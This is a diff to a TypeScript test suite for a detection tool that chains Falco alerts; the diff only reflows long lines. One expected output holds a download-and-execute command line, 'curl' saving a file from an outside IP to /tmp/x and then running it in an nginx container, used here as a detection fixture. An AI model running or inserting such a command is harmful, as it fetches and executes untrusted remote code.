@@ -72,7 +72,14 @@ describe('pedigree chains', () => {
   it('run --json: Falco alert keys plus the steps', () => {
     const r = runCli(['chains', 'run', BUNDLED_CHAINS, '--db', db, '--json', '--no-save', '-q', '--chain', PAYLOAD], { env });
     expect(r.code, r.stderr).toBe(0);
-    const obj = JSON.parse(r.stdout.trim()) as { rule: string; priority: string; steps: { step: string; pid: number; path: { name: string }[] }[]; output_fields: Record<string, unknown>; time: string; start_time: string };
+    const obj = JSON.parse(r.stdout.trim()) as {
+      rule: string;
+      priority: string;
+      steps: { step: string; pid: number; path: { name: string }[] }[];
+      output_fields: Record<string, unknown>;
+      time: string;
+      start_time: string;
+    };
     expect(obj.rule).toBe(PAYLOAD);
     expect(obj.priority).toBe('Critical');
     expect(obj.start_time).toBe('2024-11-28T13:20:15.016500000Z');
@@ -81,7 +88,11 @@ describe('pedigree chains', () => {
       ['fetch', 4002, ['sh', 'curl']],
       ['run', 4005, ['sh', 'x']],
     ]);
-    expect(obj.output_fields).toMatchObject({ 'fetch.proc.cmdline': 'curl -s -o /tmp/x http://203.0.113.7/x', 'run.proc.exepath': '/tmp/x', 'container.name': 'nginx' });
+    expect(obj.output_fields).toMatchObject({
+      'fetch.proc.cmdline': 'curl -s -o /tmp/x http://203.0.113.7/x',
+      'run.proc.exepath': '/tmp/x',
+      'container.name': 'nginx',
+    });
   });
 
   it('run --since/--until: every step must fall inside the interval', () => {
@@ -162,7 +173,9 @@ describe('pedigree chains', () => {
     const r = runCli(['chains', 'run', file, '--db', db]);
     expect(r.code).toBe(65);
     expect(r.stderr).toContain(`${file}:3:11: error LOAD_ERR_YAML_VALIDATE (chain 'Broken'): cannot read 'within: 10 minutes'`);
-    expect(r.stderr).toContain(`${file}:9:22: error LOAD_ERR_YAML_VALIDATE (chain 'Broken'): 'descendant_of: c' must name an earlier step (earlier steps: 'a')`);
+    expect(r.stderr).toContain(
+      `${file}:9:22: error LOAD_ERR_YAML_VALIDATE (chain 'Broken'): 'descendant_of: c' must name an earlier step (earlier steps: 'a')`,
+    );
   });
 
   it('run on a file without chains says so', () => {
